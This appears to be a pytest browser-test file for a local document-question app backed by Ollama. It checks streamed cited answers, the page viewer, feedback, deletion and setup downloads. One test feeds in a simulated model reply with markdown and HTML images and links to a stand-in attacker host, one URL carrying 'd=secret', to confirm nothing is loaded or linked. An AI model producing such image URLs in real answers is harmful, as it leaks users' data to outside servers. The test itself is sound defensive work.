"""Asking the documents, and setting Ollama up, in a real browser (Debian's Chromium).

The app runs with `streamlit run` against a stand-in Ollama over real HTTP; the sample
documents are ingested once (through the real library) and copied per test.
"""
from __future__ import annotations

import re
import time

import pytest

from core.history import History
from core.settings import load_settings
from core.types import Feedback
from tests.browser import ask, browser_page, shot, streamlit_app, wait_idle
from tests.ollama_standin import OllamaStandin, PullScript, Reply, dead_host
from tests.prompts import sources_in

pytestmark = [pytest.mark.browser, pytest.mark.slow]

QUESTION = "Can a customer return a bike after 45 days?"


def quoting_reply(request: dict) -> Reply:
    """Quote a sentence of source 1 and cite it, streamed in small pieces like a real model."""
    text = sources_in(request)[0]["text"]
    sentences = [s for s in re.split(r"(?<=[.!?])\s+", " ".join(text.split())) if len(s) > 40]
    sentences.sort(key=lambda s: "purchase date" not in s)  # the returns rule, when it is there
    quoted = (sentences[0] if sentences else text[:200]).rstrip(".")
    answer = f"Your returns policy says: {quoted[0].lower() + quoted[1:]} [1]."
    return Reply([answer[i:i + 8] for i in range(0, len(answer), 8)], piece_delay=0.06)


def marked_pixels(png: bytes) -> int:
    """Pixels of the highlighter's yellow in a screenshot (the sample pages print no yellow of their own)."""
    import io

    from PIL import Image

    image = Image.open(io.BytesIO(png)).convert("RGB")
    return sum(1 for r, g, b in image.getdata() if r > 235 and 200 < g < 240 and b < 140)


def test_ask_see_the_cited_page_and_rate_the_answer(library):
    with OllamaStandin(default_reply=quoting_reply) as ollama, \
            streamlit_app({"GROUNDWORK_DATA_DIR": str(library), "OLLAMA_HOST": ollama.host}) as url, \
            browser_page(height=1100) as page:
        fetched: list[str] = []
        page.on("request", lambda request: fetched.append(request.url))
        page.goto(url)  # the chat is the home page
        page.get_by_role("heading", name="Ask your documents").wait_for()
        ask(page, QUESTION)

        # the answer streams in: part of it is on screen before the whole of it
        assistant = page.locator("[data-testid='stChatMessage']").nth(1)
        assistant.get_by_text("Your returns policy says").first.wait_for()
        page.get_by_text("Sources", exact=True).wait_for()
        wait_idle(page)
        assert len(ollama.calls("/api/chat")) == 1

        # the final answer: a [1] chip that jumps to the card of the cited page
        chip = page.locator("a.gw-cite[href*='#gw-src-']", has_text="1").first
        chip.wait_for()
        msg = [m for m in History(load_settings(data_dir=library).db_path).messages(1) if m.role == "assistant"][-1]
        cited = msg.result.citations[0]
        card_head = f"[1] {cited.file} · page {cited.page}"
        page.get_by_text(card_head).wait_for()

        # hovering the number shows its supporting quote and its place, without opening anything
        tip = chip.locator(".gw-tip")
        assert not tip.is_visible()
        chip.hover()
        tip.wait_for(state="visible")
        shown = " ".join(tip.inner_text().split())
        assert f"{cited.file} · page {cited.page}" in shown
        assert cited.quote and " ".join(cited.quote.split())[:60] in shown
        assert page.locator("[data-testid='stDialog']").count() == 0
        page.wait_for_timeout(300)  # the tooltip fades in
        shot(page, "chat-hover-quote")
        page.mouse.move(5, 5)
        tip.wait_for(state="hidden")
        main = page.locator("[data-testid='stMainBlockContainer']").inner_text()
        assert "[2]" not in main  # only what the answer cites gets a card
        assert "Also read, but not cited" in main
        assert page.locator("mark").count() > 0
        shot(page, "chat-answer")

        # a long passage is folded to its first lines; "Show more" unfolds it in place
        fold = page.locator(".gw-fold").first
        rest = fold.locator("details")
        assert not rest.evaluate("d => d.open")
        fold.get_by_text("Show more").click()
        fold.get_by_text("Show less").wait_for()
        assert rest.evaluate("d => d.open")
        fold.get_by_text("Show less").click()
        fold.get_by_text("Show more").wait_for()

        # open the cited page: the page as printed with the supporting lines marked, and the original
        page.get_by_role("button", name=f"Open page {cited.page}").click()
        dialog = page.locator("[data-testid='stDialog']")
        dialog.wait_for()
        dialog.get_by_text(f"{cited.file} — page {cited.page}").wait_for()
        image = dialog.get_by_role("img", name=f"Page {cited.page} of {cited.file}, with the supporting lines")
        image.wait_for()
        page.wait_for_function("img => img.complete && img.naturalWidth > 500", arg=image.element_handle())
        assert marked_pixels(image.screenshot()) > 400  # at least one mark, seen on screen
        dialog.get_by_text("Highlighted: the lines that back up").wait_for()
        dialog.get_by_role("button", name=f"Download {cited.file}").wait_for()
        page.wait_for_timeout(400)
        shot(page, "chat-open-page")

        # the next page has no marks; back again, the marks are there again
        dialog.get_by_role("button", name="Next page").click()
        dialog.get_by_text(f"Page {cited.page + 1} of").wait_for()
        image = dialog.get_by_role("img", name=f"Page {cited.page + 1} of {cited.file}", exact=True)
        image.wait_for()
        page.wait_for_function("img => img.complete && img.naturalWidth > 500", arg=image.element_handle())
        assert marked_pixels(image.screenshot()) == 0
        dialog.get_by_role("button", name="Previous page").click()
        dialog.get_by_role("img", name=f"Page {cited.page} of {cited.file}, with the supporting lines").wait_for()
        page.keyboard.press("Escape")
        dialog.wait_for(state="detached")

        # thumbs up, remembered in the history on disk
        page.get_by_role("radio", name="Thumbs up").click()
        deadline = time.time() + 20
        feedback = None
        while time.time() < deadline:
            feedback = History(load_settings(data_dir=library).db_path).messages(1)[-1].feedback
            if feedback:
                break
            time.sleep(0.2)
        assert feedback == Feedback(1, "")
        wait_idle(page)
        # the page closed just before that click stays closed (a close Streamlit dropped once brought it back)
        assert page.locator("[data-testid='stDialog']").count() == 0
        note = page.get_by_placeholder("Press Enter to save your note")
        note.fill("Exactly right")
        note.press("Enter")
        wait_idle(page)
        deadline = time.time() + 20
        while time.time() < deadline and (feedback is None or feedback.comment != "Exactly right"):
            feedback = History(load_settings(data_dir=library).db_path).messages(1)[-1].feedback
            time.sleep(0.2)
        assert feedback == Feedback(1, "Exactly right")

        # deleting asks first; closing the question with a click right behind it keeps it closed, and
        # "Yes, delete it" deletes the conversation from this computer
        dialog = page.locator("[data-testid='stDialog']")
        page.get_by_role("button", name="Delete").click()
        dialog.get_by_text("will be deleted from this computer").wait_for()
        page.keyboard.press("Escape")
        dialog.wait_for(state="detached")
        page.get_by_role("radio", name="Thumbs down").click()
        wait_idle(page)
        assert dialog.count() == 0
        page.get_by_role("button", name="Delete").click()
        dialog.get_by_role("button", name="Yes, delete it").wait_for()
        shot(page, "chat-delete-question")
        dialog.get_by_role("button", name="Yes, delete it").click()
        dialog.wait_for(state="detached")
        page.get_by_role("heading", name="New conversation").wait_for()
        assert History(load_settings(data_dir=library).db_path).conversations() == []

        # the browser fetched nothing from outside this computer
        outside = [u for u in fetched if not u.startswith((url, "data:", "blob:"))]
        assert outside == []


NASTY = ("**Short answer:** store credit only [1]. ![receipt](https://evil.example/x.png?d=secret) "
         "<img src='https://evil.example/y.png'> see [the policy](https://evil.example/p), "
         "www.evil.example or https://evil.example/z. Prices: $1299 and $1899.")


def test_model_output_never_loads_or_links_anything_even_while_streaming(library):
    pieces = [NASTY[i:i + 3] for i in range(0, len(NASTY), 3)]  # cut mid-way through every construct
    with OllamaStandin(default_reply=lambda request: Reply(pieces, piece_delay=0.03)) as ollama, \
            streamlit_app({"GROUNDWORK_DATA_DIR": str(library), "OLLAMA_HOST": ollama.host}) as url, \
            browser_page() as page:
        fetched: list[str] = []
        page.on("request", lambda request: fetched.append(request.url))
        page.goto(url)
        ask(page, QUESTION)
        messages = page.locator("[data-testid='stChatMessage']")
        seen_while_streaming = set()
        deadline = time.time() + 60
        while time.time() < deadline and not page.get_by_text("Sources", exact=True).count():
            html = messages.last.inner_html() if messages.count() > 1 else ""
            for tag in ("<img", "<a ", "katex"):
                if tag in html and "gw-src" not in html:
                    seen_while_streaming.add(tag)
            page.wait_for_timeout(50)
        wait_idle(page)
        assert seen_while_streaming == set()
        final = messages.last.inner_html()
        assert "<img" not in final and "katex" not in final
        assert "evil.example" not in "".join(a.get_attribute("href") or "" for a in messages.last.locator("a").all())
        assert "$1299 and $1899" in messages.last.inner_text()
        assert [u for u in fetched if not u.startswith((url, "data:", "blob:"))] == []


def test_stopping_an_answer_keeps_what_was_written(library):
    slow = "Customers can return bikes within 30 days for a full refund [1]. " * 6
    with OllamaStandin(default_reply=lambda request: Reply([slow[i:i + 6] for i in range(0, len(slow), 6)],
                                                           piece_delay=0.2)) as ollama, \
            streamlit_app({"GROUNDWORK_DATA_DIR": str(library), "OLLAMA_HOST": ollama.host}) as url, \
            browser_page() as page:
        page.goto(url)
        ask(page, QUESTION)
        page.get_by_text("within 30").first.wait_for()
        page.locator("[data-testid='stChatInputStopButton']").click()  # the send button turns into Stop
        assert ollama.wait_for_abort("/api/chat", timeout=10)  # Ollama is told to stop writing
        deadline = time.time() + 20
        saved = []
        while time.time() < deadline and len(saved) < 2:
            saved = History(load_settings(data_dir=library).db_path).messages(1)
            time.sleep(0.2)
        answer = saved[-1]
        assert answer.role == "assistant" and answer.content.startswith("Customers can return bikes")
        assert answer.result.notice == "The answer was stopped before it finished."
        page.reload()
        page.get_by_text("The answer was stopped before it finished.").wait_for()


def test_ollama_down_shows_passages_and_setup_explains(library):
    host = dead_host()
    with streamlit_app({"GROUNDWORK_DATA_DIR": str(library), "OLLAMA_HOST": host}) as url, \
            browser_page(height=1100) as page:
        page.goto(url)
        page.get_by_text("Ollama isn't running, so you'll get the matching passages").wait_for()
        ask(page, QUESTION)
        page.get_by_test_id("stAlertContentInfo").get_by_text("Ollama isn't running, so here are the passages").wait_for()
        page.get_by_text("The passages that match your question best").wait_for()
        wait_idle(page)
        assert "Returns_and_Warranty_Policy.pdf" in page.locator("[data-testid='stMainBlockContainer']").inner_text()
        page.wait_for_timeout(1000)  # the chat scrolls itself to its end once the answer is in; then show its top
        page.locator("[data-testid='stChatMessage']").nth(0).scroll_into_view_if_needed()
        page.mouse.move(700, 400)
        page.mouse.wheel(0, -400)
        page.wait_for_timeout(800)
        shot(page, "chat-ollama-down")

        page.goto(url + "/setup")
        page.get_by_text("To get written answers, install Ollama").wait_for()
        page.get_by_role("button", name="Check again").wait_for()
        wait_idle(page)
        assert host in page.locator("[data-testid='stMainBlockContainer']").inner_text()
        shot(page, "setup-not-running")


def test_setup_download_with_progress_cancel_and_finish(data_dir):
    with OllamaStandin(models={}) as ollama, \
            streamlit_app({"GROUNDWORK_DATA_DIR": str(data_dir), "OLLAMA_HOST": ollama.host}) as url, \
            browser_page(height=1250) as page:
        ollama.enqueue_pull(PullScript(steps=60, step_delay=0.25), PullScript(steps=8, step_delay=0.05))
        page.goto(url)  # the first visit goes through app.py (see the report on pages/ and st.navigation)
        page.get_by_role("heading", name="Ask your documents").wait_for()
        page.goto(url + "/setup")
        page.get_by_text("No models are downloaded yet").wait_for()
        page.get_by_role("button", name=re.compile(r"Download llama3\.2:3b \(2\.0 GB\)")).click()

        # a real bar: bytes and percent, moving
        bar = page.locator("[data-testid='stProgress']")
        page.get_by_text(re.compile(r"Downloading 'llama3\.2:3b': .* of 2\.0 GB \((2\d|3\d)%\)")).wait_for()
        assert bar.count() == 1
        shot(page, "setup-downloading")

        # cancel drops the download and says so calmly
        page.get_by_role("button", name="Cancel").click()
        page.get_by_text("Download cancelled; you can start it again any time.").wait_for()
        assert ollama.wait_for_abort("/api/pull", timeout=10)
        assert "llama3.2:3b" not in ollama.installed

        # start again and let it finish: the model is listed and chosen
        page.get_by_role("button", name=re.compile(r"Download llama3\.2:3b")).click()
        page.get_by_text("is downloaded and Groundwork will answer with it").wait_for(timeout=60_000)
        wait_idle(page)
        assert "llama3.2:3b" in ollama.installed
        assert load_settings(data_dir=data_dir).model == "llama3.2:3b"
        sidebar = page.locator("[data-testid='stSidebar']")
        sidebar.get_by_text("llama3.2:3b", exact=False).wait_for()
        assert "🟢" in sidebar.inner_text() and "isn't downloaded" not in sidebar.inner_text()

        # a one-click test question
        ollama.enqueue_chat(Reply(["Hello! ", "I'm ready ", "to help with your documents."], piece_delay=0.05))
        page.get_by_role("button", name="Ask a test question").click()
        page.get_by_text("I'm ready to help with your documents.").wait_for()
        wait_idle(page)
        page.get_by_role("heading", name="Setup").scroll_into_view_if_needed()
        shot(page, "setup-running")
